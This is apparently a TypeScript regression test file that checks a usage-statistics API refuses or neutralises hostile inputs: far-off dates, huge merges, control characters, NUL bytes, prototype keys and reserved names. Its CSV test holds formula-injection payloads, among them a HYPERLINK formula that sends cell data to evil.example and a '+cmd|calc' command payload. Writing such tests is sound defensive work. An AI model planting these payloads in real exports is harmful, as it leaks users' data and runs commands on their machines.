import { monitorEventLoopDelay } from 'node:perf_hooks';
import { latestReadDay, utcDay } from '../../src/common/dates.js';
import { registerUser, rowCounts, upload } from '../helpers/api.js';
import { fixture } from '../helpers/ccusage.js';
import type { TestDatabase } from '../helpers/database.js';
import { largeReport } from '../helpers/large-report.mjs';
import { settleSharedDays, type TestApp, useTestApp } from '../helpers/test-app.js';

/**
 * Regression tests for the hostile inputs found by probing the service (issue 8): each request
 * here used to hang, 500, store something it should not, or answer far too much.
 */

const ADMIN = 'admin-token-for-the-hardening-suite-0123456789';

type Breakdown = { modelName: string; inputTokens: number; outputTokens: number; cacheCreationTokens: number; cacheReadTokens: number; cost: number };

/** A valid classic day whose totals are the sums of its models. */
function day(date: string, models: Breakdown[]) {
  const sum = (k: keyof Omit<Breakdown, 'modelName'>) => models.reduce((s, m) => s + m[k], 0);
  return {
    date,
    inputTokens: sum('inputTokens'),
    outputTokens: sum('outputTokens'),
    cacheCreationTokens: sum('cacheCreationTokens'),
    cacheReadTokens: sum('cacheReadTokens'),
    totalTokens: sum('inputTokens') + sum('outputTokens') + sum('cacheCreationTokens') + sum('cacheReadTokens'),
    totalCost: sum('cost'),
    modelsUsed: models.map((m) => m.modelName),
    modelBreakdowns: models,
  };
}

const model = (modelName: string, n = 1): Breakdown => ({
  modelName,
  inputTokens: 10 * n,
  outputTokens: 20 * n,
  cacheCreationTokens: 30 * n,
  cacheReadTokens: 40 * n,
  cost: 0.5 * n,
});
const names = (prefix: string, count: number) => Array.from({ length: count }, (_, i) => `${prefix}-${String(i).padStart(3, '0')}`);

describe('hostile inputs', () => {
  let db: TestDatabase;
  let t: TestApp;
  let alice: { username: string; token: string };
  // A body limit above the 10 MB of the merge probe, whatever the default upload limit is.
  // No fold of shared-day deltas in the background: row counts before and after a refused request must match.
  useTestApp({ LOG_LEVEL: 'info', ADMIN_TOKEN: ADMIN, BODY_LIMIT_BYTES: String(16 * 1024 * 1024), SHARED_FOLD_INTERVAL_MS: '0' }, (app) => ({ db, t } = app));

  beforeAll(async () => {
    alice = await registerUser(t.http, 'hardening-alice');
    const stored = await upload(t.http, alice.token, fixture('claude-daily.json'));
    expect(stored.status).toBe(200);
  });

  const counts = () => rowCounts((text) => db.query(text));

  /** Sends a request that must be refused with `status`, as a problem body, storing nothing. */
  async function refused(
    send: () => PromiseLike<{ status: number; body: Record<string, unknown>; headers: Record<string, string>; text: string }>,
    status = 400,
  ) {
    const before = await counts();
    const res = await send();
    expect(res.status).toBe(status);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(await counts()).toEqual(before);
    return res;
  }

  describe('item 1: dates outside the window are refused before any work', () => {
    const far = ['9999-12-31', '3000-01-01', '1999-12-31', '0001-01-01'];
    for (const path of ['/api/v1/stats/summary', '/api/v1/models', '/api/v1/providers', '/api/v1/leaderboard', '/api/v1/usage']) {
      it(`${path} with from and to on ${far.join(', ')}`, async () => {
        for (const date of far) {
          const res = await refused(() => t.http.get(path).query({ from: date, to: date }));
          expect(res.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ path: 'from', in: 'query' })]));
        }
        expect((await t.http.get('/health/live')).status).toBe(200);
      });
    }

    it("a user's and a model's series refuse them too", async () => {
      await refused(() => t.http.get(`/api/v1/users/${alice.username}/usage`).query({ from: '9999-12-01', to: '9999-12-31' }));
      await refused(() => t.http.get('/api/v1/models/claude-sonnet-4-20250514/usage').query({ from: '2025-01-01', to: '9999-12-31' }));
    });

    it('the last day of next year is the latest a read may name, and it answers', async () => {
      const latest = latestReadDay();
      const ok = await t.http.get('/api/v1/stats/summary').query({ from: `${latest.slice(0, 4)}-01-01`, to: latest });
      expect(ok.status).toBe(200);
      expect(ok.body.to).toBe(latest);
      const next = `${Number(latest.slice(0, 4)) + 1}-01-01`;
      await refused(() => t.http.get('/api/v1/stats/summary').query({ from: next, to: next }));
    });

    it('an upload with a day before 2000-01-01 is refused, naming the day', async () => {
      const report = fixture('claude-daily.json') as { daily: Array<{ date: string }> };
      report.daily[1].date = '1999-12-31';
      const res = await refused(() => upload(t.http, alice.token, report));
      expect(res.body.errors).toEqual([expect.objectContaining({ path: 'daily[1].date', message: expect.stringContaining('before 2000-01-01') })]);
    });
  });

  describe('item 2: --instances reports are merged in linear time with the caps held while merging', () => {
    it('940 projects of 100 different models on one day are refused quickly, and /health/live answers meanwhile', async () => {
      const date = utcDay(new Date(), -3);
      const projects: Record<string, unknown[]> = {};
      for (let p = 0; p < 940; p++)
        projects[`-home-alice-p${p}`] = [
          day(
            date,
            names(`p${p}`, 100).map((n) => model(n)),
          ),
        ];
      const body = JSON.stringify({ projects, totals: {} });
      expect(body.length).toBeGreaterThan(9_000_000);

      const histogram = monitorEventLoopDelay({ resolution: 10 });
      histogram.enable();
      let probes = 0;
      const prober = setInterval(() => void t.http.get('/health/live').then((r) => r.status === 200 && probes++), 100);
      const started = Date.now();
      try {
        const res = await refused(() => upload(t.http, alice.token, body));
        expect(res.body.errors).toEqual([{ path: 'projects', message: `${date} has more than 100 models`, in: 'body' }]);
      } finally {
        clearInterval(prober);
        histogram.disable();
      }
      // Before the keyed merge this took 30 s of one blocked event loop; these bounds only catch that.
      expect(Date.now() - started).toBeLessThan(20_000);
      expect(histogram.max / 1e6).toBeLessThan(5_000);
    });

    it('a report with more projects than MAX_PROJECTS is refused before it is validated', async () => {
      const projects: Record<string, unknown[]> = {};
      for (let p = 0; p < 1001; p++) projects[`p${p}`] = [];
      const res = await refused(() => upload(t.http, alice.token, { projects }));
      expect(res.body.errors).toEqual([{ path: 'projects', message: 'at most 1000 projects in one upload', in: 'body' }]);
    });

    it('projects that share models are still summed exactly (the keyed merge keeps the float order)', async () => {
      const user = await registerUser(t.http, 'hardening-merge');
      const date = utcDay(new Date(), -2);
      const projects = {
        a: [day(date, [model('claude-sonnet-4-20250514', 1), model('claude-opus-4-20250514', 3)])],
        b: [day(date, [model('claude-sonnet-4-20250514', 2)])],
        c: [day(date, [model('claude-opus-4-20250514', 5), model('claude-3-5-haiku-20241022', 7)])],
      };
      const res = await upload(t.http, user.token, { projects, totals: {} });
      expect(res.status).toBe(200);
      const usage = await t.http.get(`/api/v1/users/${user.username}/usage`).query({ from: date, to: date });
      const models = Object.fromEntries((usage.body.rows[0].models as Array<{ model: string; inputTokens: number; cost: string }>).map((m) => [m.model, m]));
      expect(models['claude-sonnet-4-20250514']).toMatchObject({ inputTokens: 30, cost: '1.5000' });
      expect(models['claude-opus-4-20250514']).toMatchObject({ inputTokens: 80, cost: '4.0000' });
      expect(models['claude-3-5-haiku-20241022']).toMatchObject({ inputTokens: 70, cost: '3.5000' });
    });
  });

  describe('item 4: the model cap holds on every format, names are printable, lists are paged', () => {
    it('a --by-agent day whose agents used 101 models between them is refused (500 were stored before)', async () => {
      const date = utcDay(new Date(), -1);
      const claude = day(
        date,
        names('claude-x', 60).map((n) => model(n)),
      );
      const codex = day(
        date,
        names('gpt-x', 41).map((n) => model(n)),
      );
      const sum = (k: 'inputTokens' | 'outputTokens' | 'cacheCreationTokens' | 'cacheReadTokens' | 'totalTokens' | 'totalCost') => claude[k] + codex[k];
      const row = {
        period: date,
        agent: 'all',
        inputTokens: sum('inputTokens'),
        outputTokens: sum('outputTokens'),
        cacheCreationTokens: sum('cacheCreationTokens'),
        cacheReadTokens: sum('cacheReadTokens'),
        totalTokens: sum('totalTokens'),
        totalCost: sum('totalCost'),
        agents: [
          { agent: 'claude', ...claude },
          { agent: 'codex', ...codex },
        ],
      };
      const res = await refused(() => upload(t.http, alice.token, { daily: [row], totals: {} }));
      expect(res.body.errors).toEqual([{ path: 'daily[0].agents', message: 'the agents used more than 100 models on this day', in: 'body' }]);
    });

    const badNames = ['claude\u0000x', 'tab\there', 'new\nline', 'zero\u200bwidth', 'rtl\u202eoverride', ' padded', 'bell\u0007', '\ud800lone'];
    it.each(badNames.map((n) => [JSON.stringify(n), n]))('a model named %s is refused', async (_label, name) => {
      const report = fixture('claude-daily.json') as { daily: Array<{ modelBreakdowns: Array<{ modelName: string }> }> };
      report.daily[0].modelBreakdowns[0].modelName = name;
      const res = await refused(() => upload(t.http, alice.token, report));
      expect(res.body.errors).toEqual([
        expect.objectContaining({ path: 'daily[0].modelBreakdowns[0].modelName', message: expect.stringContaining('printable') }),
      ]);
    });

    it('model names in other scripts and with symbols are accepted', async () => {
      const user = await registerUser(t.http, 'hardening-unicode');
      const date = utcDay(new Date(), -4);
      const res = await upload(t.http, user.token, { daily: [day(date, [model('anthropic/claude-3.5 (bêta) 模型 <synthetic>')])], totals: {} });
      expect(res.status).toBe(200);
    });

    it('a token named with a control character is refused', async () => {
      for (const name of ['laptop\u0000', 'a\u001bb', 'x\u2028y']) {
        const res = await refused(() => t.http.post(`/api/v1/users/${alice.username}/tokens`).set('Authorization', `Bearer ${alice.token}`).send({ name }));
        expect(res.body.errors).toEqual([expect.objectContaining({ path: 'name', in: 'body' })]);
      }
    });

    it('more than 500 different models in one upload are refused', async () => {
      const end = utcDay(new Date(), -1);
      const report = largeReport({ days: 6, models: 100, end });
      report.daily.forEach((d, i) => d.modelBreakdowns.forEach((m) => (m.modelName = `${m.modelName}-day${i}`)));
      const res = await refused(() => upload(t.http, alice.token, report));
      expect(res.body.errors).toEqual([{ path: 'daily', message: 'at most 500 different models in one upload (this one has 600)', in: 'body' }]);
    });

    it('/api/v1/models and /api/v1/providers answer a page at a time with the total', async () => {
      const user = await registerUser(t.http, 'hardening-models');
      const end = utcDay(new Date(), -5);
      const report = largeReport({ days: 2, models: 100, end });
      report.daily[1].modelBreakdowns.forEach((m) => (m.modelName = `${m.modelName}-b`));
      expect((await upload(t.http, user.token, report)).status).toBe(200);

      const all = await t.http.get('/api/v1/models').query({ from: report.daily[0].date, to: end, limit: 500 });
      expect(all.status).toBe(200);
      expect(all.body.total).toBe(200);
      expect(all.body.models).toHaveLength(200);
      const first = await t.http.get('/api/v1/models').query({ from: report.daily[0].date, to: end });
      expect(first.body).toMatchObject({ total: 200, limit: 100, offset: 0 });
      expect(first.body.models).toHaveLength(100);
      const second = await t.http.get('/api/v1/models').query({ from: report.daily[0].date, to: end, limit: 150, offset: 150 });
      expect(second.body.models.map((m: { model: string }) => m.model)).toEqual(all.body.models.slice(150).map((m: { model: string }) => m.model));
      expect((await t.http.get('/api/v1/models').query({ limit: 501 })).status).toBe(400);

      const providers = await t.http.get('/api/v1/providers').query({ limit: 1 });
      expect(providers.status).toBe(200);
      expect(providers.body.providers).toHaveLength(1);
      expect(providers.body.total).toBeGreaterThan(1);
    });
  });

  it('a user reports from at most 50 devices; known devices keep working', async () => {
    const user = await registerUser(t.http, 'hardening-devices');
    const report = fixture('claude-daily.json');
    await Promise.all(
      Array.from({ length: 50 }, (_, i) => i).map(async (i) => expect((await upload(t.http, user.token, report, { device: `box-${i}` })).status).toBe(200)),
    );
    const res = await refused(() => upload(t.http, user.token, report, { device: 'box-50' }), 422);
    expect(res.body.detail).toContain('50 devices');
    expect((await upload(t.http, user.token, report, { device: 'box-7' })).status).toBe(200);
  });

  describe('item 5: CSV cells that would run as formulas', () => {
    it('a model named =HYPERLINK(…) comes back as text in ?format=csv, numbers untouched', async () => {
      const user = await registerUser(t.http, 'hardening-csv');
      const date = utcDay(new Date(), -40);
      const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
      expect(
        (await upload(t.http, user.token, { daily: [day(date, [model(evil), model('+cmd|calc'), model('@SUM(1+1)'), model('-2+3')])], totals: {} })).status,
      ).toBe(200);
      const csv = await t.http.get('/api/v1/models').query({ from: date, to: date, format: 'csv' });
      expect(csv.status).toBe(200);
      const lines = csv.text.trim().split('\r\n');
      expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",unknown,1,1,10,20,30,40,100,0.5000,0.25,false,false`);
      expect(lines.some((l) => l.startsWith("'+cmd|calc,"))).toBe(true);
      expect(lines.some((l) => l.startsWith("'@SUM(1+1),"))).toBe(true);
      expect(lines.some((l) => l.startsWith("'-2+3,"))).toBe(true);
      expect(lines.every((l) => !/^[=+@-]/.test(l))).toBe(true);
    });
  });

  describe('item 8: a NUL in a large upload is a 400, and no log line holds the data', () => {
    it('4.6 MB with a NUL in the last model name', async () => {
      const report = largeReport({ days: 400, models: 100, end: utcDay(new Date(), -1) });
      report.daily.at(-1)!.modelBreakdowns.at(-1)!.modelName = 'model-\u0000';
      const body = JSON.stringify(report);
      expect(body.length).toBeGreaterThan(4_000_000);
      const res = await refused(() => upload(t.http, alice.token, body));
      expect(res.body.errors).toEqual([expect.objectContaining({ path: `daily[399].modelBreakdowns[99].modelName` })]);
      expect(t.logs.every((line) => JSON.stringify(line).length <= 8_192)).toBe(true);
    });
  });

  describe('item 9: inputs that gave 500s', () => {
    it('a NUL in the users prefix, a model path, or a token name is a 400', async () => {
      await refused(() => t.http.get('/api/v1/users?q=a%00'));
      await refused(() => t.http.get('/api/v1/models/x%00y/usage'));
      await refused(() => t.http.get('/api/v1/usage').query({ username: 'a\u0000' }));
    });

    it("Fastify's router errors are problem bodies too, and do not echo the path", async () => {
      const bad = await refused(() => t.http.get('/api/v1/users/%FF'));
      expect(bad.body).toMatchObject({ type: 'urn:ccstats:problem:malformed-request', status: 400 });
      const long = await refused(() => t.http.get(`/api/v1/users/${'a'.repeat(150)}%00x`), 414);
      expect(long.body).toMatchObject({ type: 'urn:ccstats:problem:uri-too-long', status: 414, requestId: expect.any(String) });
      expect(long.text).not.toContain('aaaa');
    });

    it.each([
      ['a month 99', '2026-99-99|1'],
      ['an id beyond 32 bits', `2026-01-01|${2 ** 32 + 5}`],
      ['an id beyond 2^53', '2026-01-01|99999999999999999999'],
      ['a negative id', '2026-01-01|-1'],
      ['three parts', '2026-01-01|1|2'],
      ['no separator', 'hello'],
    ])('an export cursor that decodes to %s is a 400', async (_label, decoded) => {
      const res = await refused(() => t.http.get('/api/v1/usage').query({ cursor: Buffer.from(decoded).toString('base64url') }));
      expect(res.body.errors).toEqual([{ path: 'cursor', message: 'is not valid', in: 'query' }]);
    });

    it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])(
      'an agent named %s is stored with provider unknown, never a 500 or {}',
      async (agent) => {
        const user = await registerUser(t.http, `hardening-agent-${agent.replace(/_/g, '')}`.toLowerCase());
        const date = utcDay(new Date(), -2);
        const inner = day(date, [model('mystery-model-7')]);
        const { date: _date, ...totals } = inner;
        const res = await upload(t.http, user.token, { daily: [{ period: date, agent: 'all', ...totals, agents: [{ agent, ...totals }] }], totals: {} });
        expect(res.status).toBe(200);
        await settleSharedDays(t);
        const providers = await db.query<{ provider: string }>(`SELECT DISTINCT provider FROM model_day_stats WHERE model = 'mystery-model-7'`);
        expect(providers).toEqual([{ provider: 'unknown' }]);
        const listed = await t.http.get('/api/v1/providers').query({ limit: 500 });
        expect(listed.body.providers.every((p: { provider: unknown }) => typeof p.provider === 'string' && p.provider !== '{}')).toBe(true);
      },
    );
  });

  describe('item 12: reserved names and short answers to huge invalid bodies', () => {
    it.each(['admin', 'Root', 'API', 'docs', 'health', 'metrics', 'me'])('registering %s is refused', async (username) => {
      const res = await refused(() => t.http.post('/api/v1/users').send({ username }));
      expect(res.body.errors).toEqual([{ path: 'username', message: 'is reserved; choose another name', in: 'body' }]);
    });

    it('a 400 KB invalid upload lists its first 100 field errors and counts them all', async () => {
      const report = largeReport({ days: 60, models: 40, end: utcDay(new Date(), -1) }) as unknown as {
        daily: Array<{ modelBreakdowns: Array<Record<string, unknown>> }>;
      };
      for (const d of report.daily) for (const m of d.modelBreakdowns) m.inputTokens = 'many';
      const body = JSON.stringify(report);
      expect(body.length).toBeGreaterThan(200_000);
      const res = await refused(() => upload(t.http, alice.token, body));
      expect(res.body.errors).toHaveLength(100);
      expect(res.body.errorCount).toBe(2400);
      expect(res.body.detail).toMatch(/^2400 fields are invalid: daily\[0\]\.modelBreakdowns\[0\]\.inputTokens, .*, and 2390 more$/);
      expect(res.text.length).toBeLessThan(20_000);
    });
  });
});
